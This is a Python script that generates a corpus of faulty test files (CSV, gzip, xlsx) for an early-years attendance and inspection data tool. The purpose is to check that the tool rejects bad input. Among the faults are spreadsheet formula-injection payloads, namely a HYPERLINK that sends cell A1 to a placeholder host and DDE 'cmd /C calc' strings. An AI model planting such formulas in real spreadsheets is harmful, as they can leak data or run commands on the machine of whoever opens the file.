"""Regenerate the bad-file corpus from tests/data/tiny (run: python tests/bad_files/make.py).

Each ``<table>__<fault>.csv`` (or ``.csv.gz``) is the tiny dataset's table with one kind of
fault; each ``workbook__<fault>.xlsx`` is the tiny dataset as a workbook with one fault;
each ``predict__<fault>.csv`` is the hand-checkable claims example
(``eyanalysis/data/example/attendance.csv``) with one fault, for ``eyanalysis predict``.
What each must produce (exit status, messages) is in ``expected.yaml``.
"""

from __future__ import annotations

import gzip
import random
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent
TINY = HERE.parent / "data" / "tiny"
EXAMPLE = HERE.parent.parent / "eyanalysis" / "data" / "example" / "attendance.csv"
HYPERLINK = '"=HYPERLINK(""http://example.test/?leak=""&A1,""Click"")"'  # OWASP's example
DDE = "\"+cmd|' /C calc'!A0\""
FIVE_MB = 5 * 1024 * 1024
WIDE_2025, WIDE_2022 = "\uff12\uff10\uff12\uff15", "\uff12\uff10\uff12\uff12"  # full width


def table(name: str) -> list[str]:
    return (TINY / f"{name}.csv").read_text().splitlines()


def write(name: str, lines: list[str], encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes(("\n".join(lines) + "\n").encode(encoding))


def replace(name: str, line: int, old: str, new: str, lines: list[str] | None = None
            ) -> list[str]:
    """Table ``name`` with ``old`` replaced by ``new`` on (1-based) ``line``."""
    lines = list(lines or table(name))
    assert old in lines[line - 1], (name, line, old)
    lines[line - 1] = lines[line - 1].replace(old, new, 1)
    return lines


def claims() -> list[str]:
    return EXAMPLE.read_text().splitlines()


def claims_replace(line: int, old: str, new: str) -> list[str]:
    return replace("", line, old, new, claims())


def with_column(lines: list[str], name: str, values) -> list[str]:
    """``lines`` with one more column ``name``; ``values(i)`` gives row i's cell."""
    return [lines[0] + f",{name}"] + [r + f",{values(i)}" for i, r in enumerate(lines[1:])]


def text(lines: list[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode("utf-8")


def binary(seed: int) -> bytes:
    """Random bytes with NULs, like a picture or a database file saved as .csv."""
    rng = random.Random(seed)
    return b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(rng.randrange(256) for _ in range(3000))


def truncated_gzip(lines: list[str]) -> bytes:
    whole = gzip.compress(text(lines * 40), mtime=0)
    return whole[: len(whole) // 2]  # the end of the archive is missing


def huge_field(lines: list[str], line: int, column: int) -> bytes:
    """A 5 MB field on ``line`` (1-based), compressed so the corpus stays small."""
    rows = [r.split(",") for r in lines]
    rows[line - 1][column] = "A" * FIVE_MB
    return gzip.compress(text([",".join(r) for r in rows]), mtime=0)


def nhs_number(i: int) -> str:
    """A valid NHS number (modulus 11) from a counter: synthetic, belongs to no one."""
    while True:
        digits = [int(d) for d in f"{400000000 + 7919 * i:09d}"]
        check = 11 - sum(d * w for d, w in zip(digits, range(10, 1, -1), strict=True)) % 11
        if check == 11:
            check = 0
        if check != 10:
            return "".join(map(str, digits)) + str(check)
        i += 1000


CSV = {
    "settings__bad_provider_type.csv": replace("settings", 2, "group_pvi", "nursery chain"),
    "settings__unknown_judgement.csv": replace("settings", 3, "requires_improvement",
                                               "very good"),
    "settings__ofsted_date_missing.csv": replace("settings", 2, "2023-05-10", ""),
    "settings__impossible_date.csv": replace("settings", 4, "2022-11-20", "2022-02-30"),
    "settings__uk_date_format.csv": replace("settings", 2, "2023-05-10", "10/05/2023"),
    "settings__duplicate_id.csv": replace("settings", 3, "S2,", "S1,"),
    "settings__formula_name.csv": replace("settings", 2, "Acorn Nursery",
                                          '"=HYPERLINK(""http://example.test"",""Acorn"")"'),
    "settings__bad_boolean.csv": replace("settings", 5, ",false,true", ",maybe,true"),
    "settings__missing_column.csv": [",".join(r.split(",")[:3] + r.split(",")[4:])
                                     for r in table("settings")],
    "children__bad_birth_month.csv": replace("children", 3, "2022-02", "2022-13"),
    "children__unknown_ehcp_status.csv": replace("children", 4, "assessment", "yes"),
    "children__duplicate_child.csv": replace("children", 5, "C004", "C001"),
    "children__full_date_of_birth.csv": replace("children", 2, "2021-10", "2021-10-14"),
    "children__names.csv": [table("children")[0] + ",child_name"] + [
        r + f",Child {i}" for i, r in enumerate(table("children")[1:])],
    "children__postcodes.csv": [table("children")[0] + ",home_area"] + [
        r + ",WR1 2AB" for r in table("children")[1:]],
    "children__nhs_number.csv": [table("children")[0] + ",nhs_number"] + [
        r + f",943 476 59{i}9" for i, r in enumerate(table("children")[1:])],
    "attendance__unknown_level.csv": replace("attendance", 5, "GR2", "GR7"),
    "attendance__negative_hours.csv": replace("attendance", 2, ",15,14,", ",-15,14,"),
    "attendance__hours_over_a_week.csv": replace("attendance", 6, ",15,14,", ",200,14,"),
    "attendance__hours_as_words.csv": replace("attendance", 3, ",10,14,", ",ten,14,"),
    "attendance__zero_weeks.csv": replace("attendance", 4, ",15,14,", ",15,0,"),
    "attendance__three_decimals.csv": replace("attendance", 3, ",10,14,", ",10.125,14,"),
    "attendance__bad_term.csv": replace("attendance", 7, "2026-SPR", "2026-WIN"),
    "attendance__duplicate_row.csv": table("attendance") + [table("attendance")[1]],
    "attendance__two_levels_one_term.csv": replace("attendance", 4, "GR4", "GR3"),
    "attendance__orphan_setting.csv": replace("attendance", 6, "C004,S4", "C004,S99"),
    "attendance__orphan_child.csv": replace("attendance", 5, "C003", "C999"),
    "attendance__level_from_after_term.csv": replace("attendance", 6, "2025-10-01",
                                                     "2026-01-05"),
    "attendance__blank_level.csv": replace("attendance", 2, ",NE,", ",,"),
    "visits__unknown_visit_type.csv": replace("visits", 2, "learning_development", "coffee"),
    "visits__bad_level_agreed.csv": replace("visits", 3, ",,intensive", ",,urgent"),
    "visits__planned_date_blank.csv": replace("visits", 4, "2026-03-01", ""),
    "visits__orphan_setting.csv": replace("visits", 3, "V2,S2", "V2,S77"),
    "categorisations__unknown_level.csv": replace("categorisations", 2, "universal", "medium"),
    "inspections__orphan_setting.csv": replace("inspections", 5, "S3", "S30"),
    "inspections__not_yet_inspected_judgement.csv": replace("inspections", 2,
                                                            "requires_improvement",
                                                            "not_yet_inspected"),
    # O1: the kind of result must match the inspection's date (ofsted.framework)
    "inspections__judgement_on_a_report_card_date.csv": replace("inspections", 3,
                                                                "2023-05-10", "2026-01-12"),
    "inspections__report_card_before_the_framework.csv": replace(
        "inspections", 5, "outstanding,,,,,,,",
        ",met,expected_standard,expected_standard,strong_standard,expected_standard,"
        "expected_standard,expected_standard"),
    "inspections__before_any_framework.csv": replace("inspections", 2, "2019-06-01",
                                                     "1999-06-01"),
    "inspections__unknown_area_grade.csv": replace(
        "inspections", 4, "2024-02-01,requires_improvement,,,,,,,",
        "2026-02-02,,met,expected_standard,good,expected_standard,expected_standard,"
        "expected_standard,expected_standard"),
    "settings__snapshot_dated_in_report_cards.csv": replace("settings", 2, "2023-05-10",
                                                            "2025-12-01"),
    "children__daf_not_boolean.csv": replace("children", 3, "plan,true,true",
                                             "plan,true,maybe"),
    "panel_applications__decided_before_received.csv": replace(
        "panel_applications", 2, "2025-10-15,true", "2025-08-01,true"),
    "panel_applications__pending_with_decision_date.csv": replace(
        "panel_applications", 3, "pending,,", "pending,,2025-11-12"),
    "panel_applications__awarded_but_declined.csv": replace(
        "panel_applications", 2, "approved,EXC", "declined,EXC"),
    "panel_applications__unknown_kind.csv": replace("panel_applications", 3, "challenge_gr4",
                                                    "holiday club"),
    # issue #15: formulas in identifiers and text
    "settings__formula_setting_id.csv": replace("settings", 5, "S4,", HYPERLINK + ","),
    "attendance__formula_child_id.csv": replace("attendance", 5, "C003", DDE),
    "visits__formula_visit_id.csv": replace("visits", 4, "V3", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "categorisations__formula_reason.csv": replace(
        "categorisations", 3, "Ofsted requires_improvement", "-2+3+cmd|' /C calc'!A0"),
    "panel_applications__formula_application_id.csv": replace("panel_applications", 2, "P1,",
                                                              "=1+1,"),
    "children__formula_after_tab.csv": replace("children", 4, "C003", '"\t=1+1"'),
    # issue #15: dates in the future of the data's as-of date
    "inspections__future_date.csv": replace("inspections", 4, "2024-02-01", "2099-02-01"),
    "visits__held_in_future.csv": replace("visits", 3, "2025-10-20", "2099-10-20"),
    "panel_applications__decided_in_future.csv": replace("panel_applications", 2,
                                                         "approved,EXC,2025-10-15",
                                                         "approved,EXC,2099-10-15"),
    "settings__ofsted_date_in_future.csv": replace("settings", 3, "2024-02-01", "2099-02-01"),
    # issue #15: personal data in every table, named by table, column and line
    "settings__owner_postcode.csv": with_column(table("settings"), "postcode",
                                                lambda i: f"WR{i + 1} 2AB"),
    "attendance__child_name.csv": with_column(table("attendance"), "child_name",
                                              lambda i: f"Child {i}"),
    "visits__date_of_birth.csv": with_column(table("visits"), "date_of_birth",
                                             lambda i: f"2021-0{i + 1}-14"),
    "inspections__address.csv": with_column(table("inspections"), "address",
                                            lambda i: f"{i + 1} High Street"),
    "panel_applications__nhs_numbers.csv": with_column(table("panel_applications"), "ref",
                                                       nhs_number),
    "categorisations__home_postcodes.csv": with_column(table("categorisations"), "area",
                                                       lambda i: f"B{i + 1}0 1XY"),
    "children__full_dates_on_two_lines.csv": replace(
        "children", 5, "2023-01", "2023-01-09", replace("children", 3, "2022-02", "14/02/2022")),
    # issue #15: lines the reader can split but not trust
    "attendance__extra_cells.csv": replace("attendance", 4, "C002,S3,2025-AUT,15,14,GR4",
                                           "C002,S3,2025-AUT,15,14,GR4,extra"),
    "visits__unclosed_quote.csv": replace("visits", 3, "V2,S2,intensive",
                                          'V2,S2,"intensive'),
    # pandas reads "today" and "now" as the moment it runs, even with a format
    "visits__date_written_as_today.csv": replace(
        "visits", 4, "2026-03-01,,,", "2026-03-01,,now,",
        replace("visits", 3, "2025-10-15", "today")),
    # Python's \d matches full-width digits: ２０２５-AUT is not a term id
    "attendance__term_in_full_width_digits.csv": replace("attendance", 4, "2025-AUT",
                                                         WIDE_2025 + "-AUT"),
    "children__birth_month_in_full_width_digits.csv": replace("children", 3, "2022-02",
                                                              WIDE_2022 + "-02"),
    # a lookup that failed in the spreadsheet the export came from
    "children__spreadsheet_error_id.csv": replace("children", 4, "C003", "#N/A"),
    "attendance__spreadsheet_error_setting.csv": replace("attendance", 3, "C002,S1",
                                                         "C002,#REF!"),
    # a header naming one column twice (case and spaces set aside)
    "visits__column_named_twice.csv": replace("visits", 1, "held_date", "Planned Date"),
    # columns the header gives no name: trailing commas, and a note beside the data
    "visits__unnamed_columns.csv": [table("visits")[0] + ",,"] + [
        r + (",ask the adviser," if i == 1 else ",,") for i, r in enumerate(table("visits")[1:])],
    # exports that are not comma separated, or have a title above the header
    "visits__semicolons.csv": [r.replace(",", ";") for r in table("visits")],
    "visits__tabs.csv": [r.replace(",", "\t") for r in table("visits")],
    "visits__title_above_header.csv": ["Visits export from the portal, 1 December 2026",
                                       ""] + table("visits"),
}

# Files that are not text of the right kind at all (bytes), or need another extension.
RAW = {
    "children__empty.csv": b"",
    "settings__binary.csv": binary(1),
    "inspections__xlsx_renamed.csv": b"PK\x03\x04" + bytes(600),
    "attendance__truncated.csv.gz": truncated_gzip(table("attendance")),
    "visits__huge_field.csv.gz": huge_field(table("visits"), 3, 6),
    "settings__utf16le_bom.csv": "\n".join(replace(
        "settings", 2, "Acorn Nursery", "Acorn \u00a3 Tots")).encode("utf-16"),
    "children__utf16be_bom.csv": b"\xfe\xff" + ("\n".join(table("children")) + "\n"
                                                 ).encode("utf-16-be"),
    "categorisations__blank_header.csv": text([""] + table("categorisations")),
    # predict (the claims example with one fault)
    "predict__formula_setting_id.csv": text(claims_replace(3, "S001", HYPERLINK)),
    "predict__formula_child_id.csv": text(claims_replace(9, "X0007", DDE)),
    "predict__at_sign_setting_id.csv": text(claims_replace(14, "S004", "@SUM(A1:A9)")),
    "predict__two_funding_ages.csv": text(claims_replace(7, "20,14,3-4", "20,14,2")),
    "predict__two_levels.csv": text(claims_replace(7, "GR3", "GR4")),
    "predict__child_name.csv": text(with_column(claims(), "name", lambda i: f"Child {i}")),
    "predict__nhs_number.csv": text(with_column(claims(), "nhs_no", nhs_number)),
    "predict__postcode_values.csv": text(with_column(claims(), "area",
                                                     lambda i: f"WR{i % 9 + 1} 4DF")),
    "predict__empty.csv": b"",
    "predict__binary.csv": binary(2),
    "predict__truncated.csv.gz": truncated_gzip(claims()),
    "predict__huge_field.csv.gz": huge_field(claims(), 4, 1),
    "predict__extra_cells.csv": text(claims_replace(5, "GR2,15,14,2,false",
                                                    "GR2,15,14,2,false,oops")),
    "predict__negative_hours.csv": text(claims_replace(2, ",15,14,", ",-15,14,")),
    "predict__column_named_twice.csv": text(claims_replace(1, ",weeks,", ",Hours Per Week,")),
    "predict__utf16le_bom.csv": "\n".join(claims()).encode("utf-16"),
}


def workbook(path: Path, fault: str) -> None:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for csv in sorted(TINY.glob("*.csv")):
        name = csv.stem
        if fault == "missing_sheet" and name == "visits":
            continue
        sheet = book.create_sheet(name)
        rows = [r.split(",") for r in csv.read_text().splitlines()]
        if fault == "title_row" and name == "attendance":
            sheet.append(["Attendance export - autumn 2025"])
            sheet.append([])
        if fault == "merged_header" and name == "attendance":
            sheet.append(["Attendance export - autumn 2025"] + [None] * (len(rows[0]) - 1))
            sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(rows[0]))
        for r in rows:
            sheet.append([_typed(v) for v in r])
        if fault == "bad_cells" and name == "attendance":
            sheet["D3"] = -4  # hours_per_week on sheet row 3
            sheet["F5"] = "Graduated Response 9"  # level on sheet row 5
        if fault == "formula_text" and name == "settings":
            sheet["B3"] = '=HYPERLINK("http://example.test/?leak="&A1,"Click")'
            sheet["B3"].data_type = "s"  # text that looks like a formula, not a formula
        if fault == "empty_sheet" and name == "children":
            sheet.delete_rows(1, sheet.max_row)
    book.save(path)


def _typed(value: str):
    try:
        return float(value) if "." in value else int(value)
    except ValueError:
        return value


if __name__ == "__main__":
    for name, lines in CSV.items():
        write(name, lines)
    # a cp1252 export with a pound sign in a name and a bad provider type
    write("settings__cp1252_bad_type.csv",
          replace("settings", 3, "Busy Bees Childminding,childminder",
                  "Busy Bees \u00a35 Club,after school club"), encoding="cp1252")
    for name, data in RAW.items():
        (HERE / name).write_bytes(data)
    faults = ("missing_sheet", "merged_header", "bad_cells", "formula_text", "empty_sheet",
              "title_row")
    for fault in faults:
        workbook(HERE / f"workbook__{fault}.xlsx", fault)
    print(f"wrote {len(CSV) + len(RAW) + 1 + len(faults)} files to {HERE}")
